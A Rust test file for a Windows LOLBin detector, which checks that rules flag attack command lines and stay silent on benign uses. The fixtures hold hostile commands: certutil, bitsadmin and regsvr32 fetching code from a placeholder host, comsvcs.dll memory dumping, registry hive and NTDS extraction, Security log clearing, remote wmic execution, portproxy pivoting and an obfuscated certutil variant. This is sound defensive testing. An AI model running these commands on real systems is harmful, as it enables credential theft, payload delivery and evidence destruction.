use super::*;

fn hit(image: &str, cmd: &str) -> Option<&'static str> {
    let name = base(image);
    let cmd = format!(" {} ", norm_cmdline(cmd));
    find_rule(&name, "", &cmd).map(|r| r.id)
}

#[test]
fn rules_match_what_they_name_and_not_the_benign_form() {
    let c = "C:\\Windows\\System32\\";
    assert_eq!(
        hit(
            &format!("{c}netsh.exe"),
            "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=10.0.0.5"
        ),
        Some("netsh_portproxy")
    );
    assert_eq!(hit(&format!("{c}netsh.exe"), "netsh interface portproxy show all"), None);
    assert_eq!(
        hit(&format!("{c}ntdsutil.exe"), "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\" q q"),
        Some("ntdsutil_ifm")
    );
    assert_eq!(
        hit(&format!("{c}certutil.exe"), "certutil.exe -urlcache -split -f http://x/a.exe a.exe"),
        Some("certutil_download")
    );
    assert_eq!(hit(&format!("{c}certutil.exe"), "certutil -store my"), None);
    assert_eq!(
        hit(
            &format!("{c}rundll32.exe"),
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"
        ),
        Some("comsvcs_minidump")
    );
    assert_eq!(
        hit(&format!("{c}rundll32.exe"), "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
        None
    );
    assert_eq!(
        hit(&format!("{c}reg.exe"), "reg save HKLM\\SYSTEM c:\\temp\\sys.hiv"),
        Some("reg_save_hive")
    );
    assert_eq!(hit(&format!("{c}reg.exe"), "reg query HKLM\\SYSTEM\\CurrentControlSet"), None);
    assert_eq!(hit(&format!("{c}wevtutil.exe"), "wevtutil cl Security"), Some("wevtutil_clear"));
    assert_eq!(hit(&format!("{c}wevtutil.exe"), "wevtutil qe Application /c:5"), None);
    assert_eq!(
        hit(
            &format!("{c}wbem\\WMIC.exe"),
            "wmic /node:10.0.0.5 process call create \"cmd /c whoami\""
        ),
        Some("wmic_remote")
    );
    assert_eq!(
        hit(&format!("{c}regsvr32.exe"), "regsvr32 /s /u /i:http://x/a.sct scrobj.dll"),
        Some("regsvr32_scriptlet")
    );
    assert_eq!(hit(&format!("{c}regsvr32.exe"), "regsvr32 /s C:\\Program Files\\x\\x.dll"), None);
    assert_eq!(
        hit(
            &format!("{c}bitsadmin.exe"),
            "bitsadmin /transfer j /download /priority high http://x/a c:\\a"
        ),
        Some("bitsadmin_transfer")
    );
    assert_eq!(
        hit(&format!("{c}certutil.exe"), "c^e^r^t^u^t^i^l \u{2013}urlcache \u{2013}f http://x/a"),
        Some("certutil_download")
    );
}

use crate::testing::{ev, profile_with_internal, run};

fn det() -> Lolbin {
    Lolbin {
        cfg: Config::default(),
        hosts: HashMap::default(),
        procs: ProcTable::default(),
        bits_jobs: HashMap::default(),
    }
}

#[test]
fn a_web_shell_running_a_port_proxy_is_found_high() {
    let p = profile_with_internal(&["10.0.0.0/8"]);
    let evs = vec![ev::proc(
        100.0,
        "WEB01",
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "C:\\Windows\\System32\\netsh.exe",
        "netsh interface portproxy add v4tov4 listenport=50100 connectaddress=10.0.0.10 connectport=3389",
    )];
    let f = run(&mut det(), &evs, &p);
    assert_eq!(f.len(), 1);
    assert!(f[0].draft.score >= 85.0, "{}", f[0].draft.score);
    assert!(f[0].draft.summary.contains("web shell"), "{}", f[0].draft.summary);
    assert_eq!(f[0].draft.attack.as_ref().unwrap()[0].to_string(), "T1090.001");
    assert_eq!(f[0].draft.entity.host.as_deref(), Some("WEB01"));
}

#[test]
fn an_admin_habit_stays_low_and_ordinary_use_is_silent() {
    let p = profile_with_internal(&["10.0.0.0/8"]);
    let mut evs = Vec::new();
    // An admin runs nltest every day from a jump host: discovery without context.
    for day in 0..6 {
        evs.push(ev::proc(
            f64::from(day) * 86_400.0 + 3600.0,
            "JUMP01",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\System32\\nltest.exe",
            "nltest /dclist:corp.example",
        ));
    }
    // Ordinary uses of the same binaries.
    evs.push(ev::proc(
        10.0,
        "WS1",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -store my",
    ));
    evs.push(ev::proc(
        11.0,
        "WS1",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    ));
    evs.push(ev::proc(
        12.0,
        "WS1",
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\System32\\msiexec.exe",
        "msiexec /V",
    ));
    let f = run(&mut det(), &evs, &p);
    assert!(
        f.iter().all(|x| x.draft.score < 50.0),
        "{:?}",
        f.iter().map(|x| (&x.draft.summary, x.draft.score)).collect::<Vec<_>>()
    );
    assert!(f.iter().all(|x| x.draft.summary.contains("nltest")));
}

#[test]
fn bits_downloads_by_native_binaries_are_found_and_updaters_are_not() {
    let p = profile_with_internal(&["10.0.0.0/8"]);
    let bits = "Microsoft-Windows-Bits-Client/Operational";
    let job = |t: f64, id: &str, path: &str| {
        ev::win(t, "WS1", bits, 3, &[("jobId", id), ("processPath", path)])
    };
    let xfer =
        |t: f64, id: &str, url: &str| ev::win(t, "WS1", bits, 59, &[("Id", id), ("url", url)]);
    let evs = vec![
        job(1.0, "{A}", "C:\\Windows\\System32\\desktopimgdownldr.exe"),
        xfer(2.0, "{a}", "https://paste.example/x.7z"),
        job(3.0, "{B}", "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"),
        xfer(
            4.0,
            "{B}",
            "http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/a.exe",
        ),
    ];
    let f = run(&mut det(), &evs, &p);
    assert_eq!(f.len(), 1, "{:?}", f.iter().map(|x| &x.draft.summary).collect::<Vec<_>>());
    assert_eq!(f[0].draft.score, 75.0);
    assert!(f[0].draft.summary.contains("desktopimgdownldr.exe"));
}
